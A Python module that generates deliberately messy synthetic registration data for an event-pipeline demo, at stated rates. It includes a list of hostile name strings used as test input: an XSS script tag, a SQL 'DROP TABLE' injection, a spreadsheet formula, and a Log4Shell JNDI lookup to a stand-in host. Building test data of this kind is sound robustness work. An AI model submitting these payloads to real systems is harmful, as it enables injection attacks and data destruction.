"""The demo's dirt, on purpose and at stated rates: how times and amounts are written, what is missing, what is garbled.

Rates are shares of registration documents unless said otherwise; each kind appears at least once in any demo.
"""

from __future__ import annotations

import json

import numpy as np

from event_pipeline.demo.columns import Text, iso, join, local_text, lookup, numbers, scatter
from event_pipeline.demo.distributions import ZONE_OFFSET_MS

DUPLICATE_RATE = 0.01
"""The same person registers twice for one event: a double click, or a second device minutes later."""
SECOND_DEVICE_SHARE = 0.2
"""Share of the duplicates that come minutes after the first rather than seconds."""

GARBLED_RATE = 0.0005
"""Not a document at all: a string, number, list or boolean where an object belongs."""
HOSTILE_RATE = 0.0005
"""Objects of the right shape holding hostile text: markup, SQL, U+0000, very long, deeply nested."""
WRONG_TYPE_RATE = 0.001
"""One field of a type nobody expects: a number as name, a list as phone, text as additional_info, an unknown status."""

MISSING_EMAIL_RATE = 0.002
MISSING_PHONE_RATE = 0.03
MISSING_STUDENT_ID_RATE = 0.05
MISSING_UPDATED_AT_RATE = 0.05
MISSING_QR_RATE = 0.02
"""Shares of documents without the field."""

TIME_STYLE_RATES = (0.93, 0.03, 0.025, 0.015)
"""A document's times as ISO text in UTC, epoch milliseconds, local text without a zone, {_seconds, _nanoseconds}."""

AMOUNT_STYLE_RATES = (0.60, 0.20, 0.16, 0.04)
"""Amounts of paid registrations as 150, "150", "₹150", null."""

UNDONE_RATE = 0.005
"""Share of no-shows first marked as attended by mistake, then undone: an attendance time stays behind."""

DELETED_EVENT_RATE = 0.015
"""Share of events deleted from the database while their registrations stay with a dangling id (at least one)."""
CANCELLED_EVENT_RATE = 0.02
"""Share of past events that were cancelled: registrations stay, nobody came."""
STALE_STATUS_RATE = 0.05
"""Share of past events whose status still says upcoming."""

GARBLED_DOCUMENTS = (
    '"lost in migration"',
    "42",
    "true",
    '["a","list"]',
    '"{\\"event_id\\": \\"half a docu"',
    "[]",
)
"""Values that stand where a document should."""

HOSTILE_NAMES = (
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE registrations;--",
    '=HYPERLINK("https://example.org","click")',
    "Nul\x00Byte Demo",
    "\u202egnitirw sdrawkcab",
    "Ünïcödé 🎉🎉 \U0001f469\u200d\U0001f4bb",
    "A" * 20_000,
    "line\nbreak\ttab \\ backslash \"quote\" 'quote'",
    "${jndi:ldap://example.org/a}",
    " ",
)
"""Names typed by people who mean no good, or whose keyboards do not."""

_NESTING = 28
DEEP_NESTING = '{"n":' * _NESTING + "1" + "}" * _NESTING
"""As deep as the Realtime Database stores: 32 levels, counted from the root."""


def hostile_names() -> list[str]:
    """Hostile names as JSON strings."""
    return [json.dumps(name, ensure_ascii=False) for name in HOSTILE_NAMES]


def time_styles(rng: np.random.Generator, rows: int) -> np.ndarray:
    """Which of the four ways each document writes its times."""
    return rng.choice(4, rows, p=TIME_STYLE_RATES)


def styled_times(milliseconds: np.ndarray, style: np.ndarray) -> Text:
    """Times as JSON values in each document's own style."""
    text = join('"', iso(milliseconds), '"')
    epoch, local, native = (style == kind for kind in (1, 2, 3))
    text = scatter(text, epoch, numbers(milliseconds[epoch]))
    text = scatter(text, local, join('"', local_text(milliseconds[local], ZONE_OFFSET_MS), '"'))
    seconds, rest = np.divmod(milliseconds[native], 1000)
    return scatter(
        text, native, join('{"_seconds":', numbers(seconds), ',"_nanoseconds":', numbers(rest * 1_000_000), "}")
    )


def styled_amounts(rupees: np.ndarray, rng: np.random.Generator) -> Text:
    """Amounts in rupees as JSON values, the way people and forms write them."""
    style = rng.choice(4, len(rupees), p=AMOUNT_STYLE_RATES)
    text = join(lookup(("", '"', '"₹', ""), style), numbers(rupees), lookup(("", '"', '"', ""), style))
    return scatter(text, style == 3, lookup(("null",), np.zeros(int((style == 3).sum()), np.int64)))
